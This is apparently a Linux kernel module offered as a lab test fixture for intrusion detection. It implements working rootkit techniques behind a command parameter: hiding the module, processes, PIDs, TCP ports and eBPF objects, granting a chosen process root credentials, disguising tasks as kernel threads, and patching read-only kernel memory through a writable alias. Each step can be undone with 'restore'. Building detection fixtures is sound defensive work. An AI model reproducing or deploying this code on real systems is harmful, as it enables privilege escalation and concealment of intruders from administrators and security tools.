// SPDX-License-Identifier: GPL-2.0-only
/*
 * What rootkits do to a kernel, on command: a TEST FIXTURE, loaded into a throw-away lab VM only, so that intrusion
 * detection has something to find. It hides nothing from whoever looks for it: its commands are at
 * /sys/module/rootkit/parameters/command, each is undone by "restore", and its unloading undoes them all.
 *
 *   hide-module                take this module out of the list of modules
 *   hide-kobject               and out of the set of kobjects that /sys/module stands for
 *   unlink-task PID            take a process out of the list of tasks
 *   unhash-pid PID             take a process out of the table of pids: kill and /proc no longer find it
 *   unlink-listener PORT       take a listening TCP socket out of the table that /proc/net/tcp shows (and connections
 *                              are accepted by: it is deaf meanwhile)
 *   hide-port PORT WHERE       hook tcp4_seq_ops.show, whose address is given, to pass over a port in /proc/net/tcp
 *   share-cred PID OTHER       give a process the credentials of another; OTHER 0: the kernel's own, init_cred
 *   zero-uid PID               make a process's own credentials root's, in place
 *   notify-keys                be called for each key
 *   trace-function WHERE       be called by a function of the kernel, through ftrace
 *   hook-packets               be called for each packet that comes in
 *   probe-forks                be called at the tracepoint sched_process_fork
 *   probe-function             be called where vfs_fsync_range begins, by a kprobe
 *   disguise PID               mark a process as a kernel thread
 *   hide-bpf IDR NUMBER        take an eBPF program, map or link out of the table of numbers at an address
 *   patch WHERE VALUE          store a word of the kernel's image, read-only ones too
 *   restore                    undo all of it, the last first
 */
#include <linux/cred.h>
#include <linux/ftrace.h>
#include <linux/idr.h>
#include <linux/keyboard.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/tracepoint.h>
#include <linux/vmalloc.h>
#include <net/inet_hashtables.h>
#include <net/tcp.h>

static unsigned long tasklist_lock_at, modules_at;
module_param(tasklist_lock_at, ulong, 0400);
MODULE_PARM_DESC(tasklist_lock_at, "address of tasklist_lock, which modules are not told");
module_param(modules_at, ulong, 0400);
MODULE_PARM_DESC(modules_at, "address of the list of modules");

struct undo {
	void (*back)(struct undo *undo);
	void *what;
	const void *before;
};

static struct undo done[32];
static unsigned int count;

static int remember(void (*back)(struct undo *), void *what, const void *before)
{
	if (count == ARRAY_SIZE(done))
		return -ENOSPC;
	done[count++] = (struct undo){ back, what, before };
	return 0;
}

static void restore(void)
{
	while (count) {
		count--;
		done[count].back(&done[count]);
	}
}

/* Words of the kernel's image: through a writable alias, so that no protection needs to be switched off. */

static int store(unsigned long *where, unsigned long value)
{
	struct page *page = pfn_to_page(slow_virt_to_phys(where) >> PAGE_SHIFT);
	char *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	WRITE_ONCE(*(unsigned long *)(alias + offset_in_page(where)), value);
	vunmap(alias);
	return 0;
}

static void unpatch(struct undo *undo)
{
	store(undo->what, (unsigned long)undo->before);
}

static int patch(unsigned long *where, unsigned long value)
{
	int failed = remember(unpatch, where, (void *)READ_ONCE(*where));

	return failed ?: store(where, value);
}

/* For a table's entry to lead to: an address that is not in the kernel's text. */
static noinline __used long hooked(void)
{
	return -ENOSYS;
}

/* Modules. */

static void show_module(struct undo *undo)
{
	list_add_rcu(&THIS_MODULE->list, (struct list_head *)modules_at);
}

static int hide_module(void)
{
	int failed = remember(show_module, NULL, NULL);

	if (!failed)
		list_del_rcu(&THIS_MODULE->list);
	return failed;
}

static void show_kobject(struct undo *undo)
{
	struct kobject *kobject = undo->what;

	spin_lock(&kobject->kset->list_lock);
	list_add_tail(&kobject->entry, &kobject->kset->list);
	spin_unlock(&kobject->kset->list_lock);
}

static int hide_kobject(struct kobject *kobject)
{
	int failed = remember(show_kobject, kobject, NULL);

	if (failed)
		return failed;
	spin_lock(&kobject->kset->list_lock);
	list_del_init(&kobject->entry);
	spin_unlock(&kobject->kset->list_lock);
	return 0;
}

/* Processes. A task that has ended while it was hidden is not put back. */

static void link_task(struct undo *undo)
{
	struct task_struct *task = undo->what;

	write_lock_irq((rwlock_t *)tasklist_lock_at);
	if (pid_alive(task))
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
	write_unlock_irq((rwlock_t *)tasklist_lock_at);
	put_task_struct(task);
}

static int unlink_task(struct task_struct *task)
{
	int failed = remember(link_task, task, NULL);

	if (failed)
		return failed;
	get_task_struct(task);
	write_lock_irq((rwlock_t *)tasklist_lock_at);
	/* Linked to itself, so that its exit may unlink it once more. */
	list_del_init(&task->tasks);
	write_unlock_irq((rwlock_t *)tasklist_lock_at);
	return 0;
}

static void hash_pid(struct undo *undo)
{
	struct pid *pid = undo->what;

	if (pid_has_task(pid, PIDTYPE_PID))
		idr_replace(&init_pid_ns.idr, pid, pid->numbers[0].nr);
	put_pid(pid);
}

static int unhash_pid(struct task_struct *task)
{
	struct pid *pid = get_pid(task_pid(task));
	int failed = remember(hash_pid, pid, NULL);

	/* The number stays taken: its exit gives it back. */
	if (!failed)
		idr_replace(&init_pid_ns.idr, NULL, pid->numbers[0].nr);
	return failed;
}

static void unmask(struct undo *undo)
{
	struct task_struct *task = undo->what;

	task->flags &= ~PF_KTHREAD;
	put_task_struct(task);
}

static int disguise(struct task_struct *task)
{
	int failed = remember(unmask, task, NULL);

	if (failed)
		return failed;
	get_task_struct(task);
	task->flags |= PF_KTHREAD;
	return 0;
}

/* eBPF objects: the entry of a number becomes empty, and the number stays taken. */

static unsigned long hidden_numbers[ARRAY_SIZE(done)];

static void show_bpf(struct undo *undo)
{
	idr_replace(undo->what, (void *)undo->before, hidden_numbers[undo - done]);
}

static int hide_bpf(struct idr *idr, unsigned long number)
{
	void *found = idr_find(idr, number);
	int failed = found ? remember(show_bpf, idr, found) : -ENOENT;

	if (failed)
		return failed;
	hidden_numbers[count - 1] = number;
	idr_replace(idr, NULL, number);
	return 0;
}

/* Credentials. */

static void restore_cred(struct undo *undo)
{
	struct task_struct *task = undo->what;

	task_lock(task);
	if (pid_alive(task)) {
		rcu_assign_pointer(task->real_cred, undo->before);
		rcu_assign_pointer(task->cred, undo->before);
	}
	task_unlock(task);
	put_task_struct(task);
}

static int share_cred(struct task_struct *task, struct task_struct *other)
{
	const struct cred *given;
	int failed = remember(restore_cred, task, task->real_cred);

	if (failed)
		return failed;
	get_task_struct(task);
	given = get_task_cred(other);
	/* Two references more than are given back: its end may drop them, or "restore" leave them. */
	get_cred(get_cred(given));
	task_lock(task);
	rcu_assign_pointer(task->real_cred, given);
	rcu_assign_pointer(task->cred, given);
	task_unlock(task);
	return 0;
}

static void restore_uid(struct undo *undo)
{
	struct task_struct *task = undo->what;
	struct cred *cred = (struct cred *)task->cred;

	if (pid_alive(task))
		cred->uid = cred->euid = cred->suid = cred->fsuid = KUIDT_INIT((uid_t)(unsigned long)undo->before);
	put_task_struct(task);
}

static int zero_uid(struct task_struct *task)
{
	struct cred *cred = (struct cred *)task->cred;
	int failed = remember(restore_uid, task, (void *)(unsigned long)cred->uid.val);

	if (failed)
		return failed;
	get_task_struct(task);
	cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	return 0;
}

/* Sockets. */

static void link_listener(struct undo *undo)
{
	struct sock *sock = undo->what;
	struct inet_listen_hashbucket *bucket = (void *)undo->before;

	spin_lock_bh(&bucket->lock);
	if (sock->sk_state == TCP_LISTEN)
		__sk_nulls_add_node_rcu(sock, &bucket->nulls_head);
	spin_unlock_bh(&bucket->lock);
	sock_put(sock);
}

static int unlink_listener_from(struct inet_listen_hashbucket *bucket, unsigned short port)
{
	struct hlist_nulls_node *node;
	struct sock *sock;
	int failed = -ENOENT;

	spin_lock_bh(&bucket->lock);
	sk_nulls_for_each(sock, node, &bucket->nulls_head) {
		if (sock->sk_num != port)
			continue;
		failed = remember(link_listener, sock, bucket);
		if (!failed) {
			sock_hold(sock);
			__sk_nulls_del_node_init_rcu(sock);
		}
		break;
	}
	spin_unlock_bh(&bucket->lock);
	return failed;
}

static int unlink_listener(unsigned short port)
{
	/* The table's own symbol is for modules no more since 6.2. */
	struct inet_hashinfo *table = init_net.ipv4.tcp_death_row.hashinfo;
	unsigned int at;
	int failed = -ENOENT;

	for (at = 0; at <= table->lhash2_mask && failed == -ENOENT; at++)
		failed = unlink_listener_from(&table->lhash2[at], port);
	return failed;
}

static int (*shown)(struct seq_file *file, void *entry);
static unsigned short hidden_port;

static int hooked_show(struct seq_file *file, void *entry)
{
	/* The first line of the table is no socket. Others of whatever state begin with a sock_common. */
	if (entry != SEQ_START_TOKEN && ((struct sock_common *)entry)->skc_num == hidden_port)
		return 0;
	return shown(file, entry);
}

static int hide_port(unsigned short port, unsigned long *show)
{
	hidden_port = port;
	shown = (void *)READ_ONCE(*show);
	return patch(show, (unsigned long)hooked_show);
}

/* What the kernel calls. */

static int key_pressed(struct notifier_block *block, unsigned long action, void *data)
{
	return NOTIFY_OK;
}

static struct notifier_block keys = { .notifier_call = key_pressed };

static void ignore_keys(struct undo *undo)
{
	unregister_keyboard_notifier(&keys);
}

static int notify_keys(void)
{
	int failed = register_keyboard_notifier(&keys);

	return failed ?: remember(ignore_keys, NULL, NULL);
}

static notrace void traced(unsigned long at, unsigned long from, struct ftrace_ops *ops, struct ftrace_regs *registers)
{
}

static struct ftrace_ops tracer = { .func = traced };

static void end_trace(struct undo *undo)
{
	unregister_ftrace_function(&tracer);
	ftrace_set_filter_ip(&tracer, (unsigned long)undo->what, 1, 0);
}

static int trace_function(unsigned long at)
{
	int failed = ftrace_set_filter_ip(&tracer, at, 0, 0) ?: register_ftrace_function(&tracer);

	return failed ?: remember(end_trace, (void *)at, NULL);
}

static unsigned int packet_came(void *data, struct sk_buff *packet, const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static const struct nf_hook_ops packets = {
	.hook = packet_came,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_PRE_ROUTING,
	.priority = NF_IP_PRI_FIRST,
};

static void ignore_packets(struct undo *undo)
{
	nf_unregister_net_hook(&init_net, &packets);
}

static int hook_packets(void)
{
	int failed = nf_register_net_hook(&init_net, &packets);

	return failed ?: remember(ignore_packets, NULL, NULL);
}

static notrace void forked(void *data, struct task_struct *parent, struct task_struct *child)
{
}

static void find_fork(struct tracepoint *point, void *found)
{
	if (!strcmp(point->name, "sched_process_fork"))
		*(struct tracepoint **)found = point;
}

static void ignore_forks(struct undo *undo)
{
	tracepoint_probe_unregister(undo->what, forked, NULL);
	tracepoint_synchronize_unregister();
}

static int probe_forks(void)
{
	struct tracepoint *point = NULL;
	int failed;

	for_each_kernel_tracepoint(find_fork, &point);
	failed = point ? tracepoint_probe_register(point, forked, NULL) : -ENOENT;
	return failed ?: remember(ignore_forks, point, NULL);
}

static int on_probe(struct kprobe *probe, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe probe;

static void unprobe_function(struct undo *undo)
{
	unregister_kprobe(&probe);
}

static int probe_function(void)
{
	int failed;

	/* A probe that was registered before keeps its address, and both are refused together. */
	probe = (struct kprobe){ .symbol_name = "vfs_fsync_range", .pre_handler = on_probe };
	failed = register_kprobe(&probe);
	return failed ?: remember(unprobe_function, NULL, NULL);
}

/* Commands. */

static int of_task(const char *verb, struct task_struct *task, unsigned int number)
{
	struct task_struct *other = &init_task;
	int failed;

	if (!strcmp(verb, "unlink-task"))
		return unlink_task(task);
	if (!strcmp(verb, "unhash-pid"))
		return unhash_pid(task);
	if (!strcmp(verb, "zero-uid"))
		return zero_uid(task);
	if (!strcmp(verb, "disguise"))
		return disguise(task);
	if (strcmp(verb, "share-cred"))
		return -EINVAL;
	if (!number)
		return share_cred(task, other);
	other = get_pid_task(find_vpid(number), PIDTYPE_PID);
	if (!other)
		return -ESRCH;
	failed = share_cred(task, other);
	put_task_struct(other);
	return failed;
}

static int command(const char *line, const struct kernel_param *param)
{
	char verb[24];
	unsigned long first = 0, second = 0;
	struct task_struct *task;
	int failed;

	if (sscanf(line, "%23s %li %li", verb, &first, &second) < 1)
		return -EINVAL;
	if (!strcmp(verb, "restore")) {
		restore();
		return 0;
	}
	if (!strcmp(verb, "hide-module"))
		return hide_module();
	if (!strcmp(verb, "hide-kobject"))
		return hide_kobject(&THIS_MODULE->mkobj.kobj);
	if (!strcmp(verb, "unlink-listener"))
		return unlink_listener(first);
	if (!strcmp(verb, "hide-port"))
		return hide_port(first, (unsigned long *)second);
	if (!strcmp(verb, "notify-keys"))
		return notify_keys();
	if (!strcmp(verb, "trace-function"))
		return trace_function(first);
	if (!strcmp(verb, "hook-packets"))
		return hook_packets();
	if (!strcmp(verb, "probe-forks"))
		return probe_forks();
	if (!strcmp(verb, "probe-function"))
		return probe_function();
	if (!strcmp(verb, "hide-bpf"))
		return hide_bpf((struct idr *)first, second);
	if (!strcmp(verb, "patch"))
		return patch((unsigned long *)first, second);
	rcu_read_lock();
	task = get_pid_task(find_vpid(first), PIDTYPE_PID);
	rcu_read_unlock();
	if (!task)
		return -ESRCH;
	failed = of_task(verb, task, second);
	put_task_struct(task);
	return failed;
}

static const struct kernel_param_ops commands = { .set = command };
module_param_cb(command, &commands, NULL, 0200);
MODULE_PARM_DESC(command, "what to do, see the source");

static int __init begin(void)
{
	return tasklist_lock_at && modules_at ? 0 : -EINVAL;
}

static void __exit end(void)
{
	restore();
}

module_init(begin);
module_exit(end);
MODULE_DESCRIPTION("Does to a lab VM's kernel what rootkits do: a test fixture");
MODULE_LICENSE("GPL");
